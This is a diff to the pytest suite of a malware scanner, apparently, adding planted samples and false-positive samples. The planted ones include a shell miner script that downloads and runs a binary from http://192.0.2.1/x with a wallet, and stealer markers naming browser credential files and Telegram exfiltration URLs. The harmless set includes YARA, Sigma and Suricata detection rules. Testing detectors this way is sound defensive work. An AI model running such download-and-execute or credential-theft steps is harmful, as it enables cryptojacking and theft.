@@ -42,7 +42,11 @@ PLANTED: dict[str, list[bytes]] = {
         b'{"donate-level": 1, "pools": [{"algo": "rx/0", "url": "pool.example:3333"}]}',
         b'{"url": "pool.example:3333", "user": "%s"}' % WALLET.encode(),
     ],
-    "miner_script": [b"#!/bin/sh\nwget http://192.0.2.1/x\nchmod +x x\n./x -u %s\n" % WALLET.encode()],
+    "miner_script": [
+        b"#!/bin/sh\n# from hxxp://pool.example, 192.0.2[.]1 and 192.0.2[.]2\nwget http://192.0.2.1/x\nchmod +x x\n./x -u %s\n"
+        % WALLET.encode(),
+        b"#!/bin/sh\nwget http://192.0.2.1/x\nchmod +x x\n./x -u %s\n" % WALLET.encode(),
+    ],
     "stealer_program": [
         pe("\\Login Data", "\\Local State", "wallet.dat", "\\tdata", "api.ipify.org"),
         pe(
@@ -100,6 +104,15 @@ HARMLESS = {
     "settings": b'{"url": "https://unit.example", "user": "nam"}',
     "powershell": b"powershell -ExecutionPolicy Bypass -File update.ps1",
     "quoted test file": b"The file is:\n" + EICAR,
+    "list of indicators": b"Stealer: reads Login Data, Local State and leveldb, wallet files\nsends to hxxps://api.telegram[.]org/bot1\nand https://api.telegram.org/bot2\n",
+    "list of digests": b"wallet, Login Data\n%s\nhttps://webhook.site/x\n"
+    % b"\n".join(b"%064x" % n for n in range(1, 5)),
+    "report in prose": b"The script copies Login Data and the wallet, then posts to https://api.telegram.org/bot and ends.\n",
+    "yara rule": b'rule stealer {\n strings:\n  $a = "Login Data"\n  $b = "Local State"\n  $c = "https://api.telegram.org/bot"\n condition: all of them\n}\n',
+    "sigma rule": b"title: miner\nlogsource:\n product: linux\ndetection:\n s:\n  - wget \n  - pkill\n  - stratum+tcp://pool.example:3333\n  - curl \n",
+    "suricata rule": b'alert tcp any any -> any any (msg:"wget curl pkill stratum+tcp://pool.example:3333"; sid:1; rev:1;)\n',
+    "wallets of miners": b"Miner. Wallet: %s\nIt uses wget and curl, chmod +x, pkill.\n" % WALLET.encode(),
+    "stix bundle": b'{"type": "bundle", "objects": [{"type": "indicator", "pattern": "Login Data Local State https://api.telegram.org/bot1"}]}',
 }
 
 
@@ -111,6 +124,16 @@ def searcher() -> Searcher:
 @pytest.mark.parametrize(("rule", "content"), [(rule, one) for rule, some in PLANTED.items() for one in some])
 def test_a_planted_file_is_found(searcher: Searcher, rule: str, content: bytes) -> None:
     assert rule in {hit.name for hit in searcher.search(content)}
+
+
+def test_our_own_rules_and_tests_accuse_nobody(searcher: Searcher) -> None:
+    for path in (Path(__file__), *map(Path, map(str, resources.files("lamsach.scanner.rules").iterdir()))):
+        if path.suffix not in (".yar", ".py"):
+            continue
+        assert not {hit.name for hit in searcher.search(path.read_bytes())} & {
+            "stealer_script",
+            "miner_script",
+        }, path
 
 
 def test_every_rule_has_a_planted_file() -> None:
